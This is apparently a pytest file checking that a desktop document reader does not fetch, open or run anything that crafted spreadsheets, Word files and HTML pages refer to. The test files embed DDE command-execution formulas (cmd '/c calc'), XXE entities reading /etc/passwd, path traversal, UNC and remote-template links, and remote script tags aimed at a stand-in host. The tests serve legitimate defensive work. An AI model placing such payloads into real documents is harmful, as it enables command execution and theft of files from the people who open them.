"""Nothing that a file refers to is fetched, opened or run, whatever the file asks for: Python itself reports every attempt."""

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from medaid_desktop.core.grid import Document
from medaid_desktop.errors import UserError
from medaid_desktop.formats.documents import read_document
from tests.formats.excel.others.test_ods import MIME, cell, content
from tests.formats.packages import letter, relations, saved, workbook, zipped

_ATTEMPTS = ("open", "socket.", "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.startfile", "exec",
             "urllib.", "http.", "ctypes.", "import", "winreg.", "webbrowser.", "ftplib.", "smtplib.")  # fmt: skip
_seen: list[str] | None = None


def _hear(event: str, arguments: tuple[object, ...]) -> None:
    if _seen is not None and event.startswith(_ATTEMPTS):
        _seen.append(f"{event} {arguments}")


sys.addaudithook(_hear)


@contextmanager
def reported() -> Iterator[list[str]]:
    """What is attempted meanwhile."""
    global _seen
    _seen = found = list[str]()
    try:
        yield found
    finally:
        _seen = None


def read(path: Path) -> Document | str:
    try:
        return read_document(path)
    except UserError as error:
        return error.what


EVIL = "http://198.51.100.7/evil"
SHARE = r"\\198.51.100.7\share\evil.xlsx"
ROWS = (
    '<row r="1"><c r="A1"><f>WEBSERVICE("http://198.51.100.7/evil")</f><v>1</v></c>'
    '<c r="B1"><f>cmd|\'/c calc\'!A1</f><v>2</v></c><c r="C1"><f>[1]表!A1</f><v>3</v></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>=cmd|\'/c calc\'!A1</t></is></c></row>'
)


def macro_workbook() -> dict[str, str | bytes]:
    parts = workbook(ROWS, behind='<hyperlinks><hyperlink ref="A1" r:id="r9" xmlns:r="r"/></hyperlinks>')
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 100
    parts["xl/connections.xml"] = f'<connections><connection><webPr url="{EVIL}"/></connection></connections>'
    parts["xl/externalLinks/externalLink1.xml"] = "<externalLink/>"
    outside = "".join(
        f'<Relationship Id="x{number}" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for number, (kind, target, mode) in enumerate(
            [
                ("externalLinkPath", SHARE, "External"), ("worksheet", EVIL, "External"), ("sharedStrings", EVIL, "Internal"),
                ("styles", "file:///etc/passwd", "Internal"), ("worksheet", "../../../../etc/passwd", "Internal"),
            ]
        )
    )  # fmt: skip
    links = str(parts["xl/_rels/workbook.xml.rels"])
    parts["xl/_rels/workbook.xml.rels"] = links.replace("</Relationships>", outside + "</Relationships>")
    return parts


def template_letter() -> dict[str, str | bytes]:
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧值</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in (f'INCLUDETEXT "{EVIL}"', r'DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"', f'INCLUDEPICTURE "{EVIL}" \\d')
    )  # fmt: skip
    parts = letter(f'{fields}<w:altChunk r:id="r8"/><w:p><w:r><w:object/></w:r></w:p>')
    parts["word/settings.xml"] = '<w:settings xmlns:w="w"><w:attachedTemplate w:id="r1"/></w:settings>'
    parts["word/_rels/settings.xml.rels"] = relations(("attachedTemplate", EVIL))
    parts["word/_rels/document.xml.rels"] = relations(("styles", EVIL), ("numbering", SHARE), ("aFChunk", EVIL))
    parts["word/vbaProject.bin"] = b"AutoOpen"
    return parts


PAGE = (
    f'<html><head><base href="{EVIL}"><link rel=stylesheet href="{EVIL}"><meta http-equiv=refresh content="0;url={EVIL}">'
    f'<script src="{EVIL}"></script></head><body onload="x()"><table><tr><td><img src="{EVIL}">甲</td>'
    f'<td><iframe src="file:///etc/passwd"></iframe>乙</td><td style="background:url({EVIL})">丙</td></tr></table></body></html>'
)
ODS = (
    '<table:table table:name="表"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" '
    f'office:dde-item="A"/><table:table-source xmlns:xlink="x" xlink:href="{EVIL}"/>'
    f"<table:table-row>{cell('甲', 'table:formula=&quot;of:=DDE()&quot;'.replace('&quot;', chr(34)))}</table:table-row></table:table>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://198.51.100.7/evil.dtd" [<!ENTITY % b SYSTEM "file:///etc/passwd"> %b;]>'
FILES: dict[str, bytes] = {
    "宏.xlsm": zipped(macro_workbook()),
    "模板.docm": zipped(template_letter()),
    "网页.xls": PAGE.encode(),
    "表.ods": zipped({"mimetype": MIME, "content.xml": f'<?xml-stylesheet href="{EVIL}"?>' + content(ODS)}),
    "实体.xlsx": zipped({**workbook(""), "xl/worksheets/sheet1.xml": f"{XXE}<worksheet/>"}),
    "实体.docx": zipped({**letter(""), "word/document.xml": f"{XXE}<document/>"}),
    "实体.xls": f'{XXE}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'.encode(),
}


@pytest.mark.parametrize("name", FILES)
def test_only_the_file_itself_is_opened(tmp_path: Path, name: str):
    path = saved(tmp_path, FILES[name], name)
    read(path)  # what Python imports when it is first needed is no attempt of the file's
    with reported() as attempts:
        read(path)
    assert attempts and all(str(path) in attempt for attempt in attempts), attempts


def test_what_is_reported_would_be_seen(tmp_path: Path):
    """The watch itself works."""
    with reported() as attempts:
        saved(tmp_path, b"x", "甲.txt")
    assert any("甲.txt" in attempt for attempt in attempts)


def test_stored_values_are_read_and_nothing_is_calculated(tmp_path: Path):
    document = read_document(saved(tmp_path, macro_workbook(), "宏.xlsm"))
    assert [cell.text for cell in document.grids[0].cells] == ["1", "2", "3", "=cmd|'/c calc'!A1"]
    letter_read = read_document(saved(tmp_path, template_letter(), "模板.docm"))
    assert letter_read.paragraphs == ("旧值",) * 3
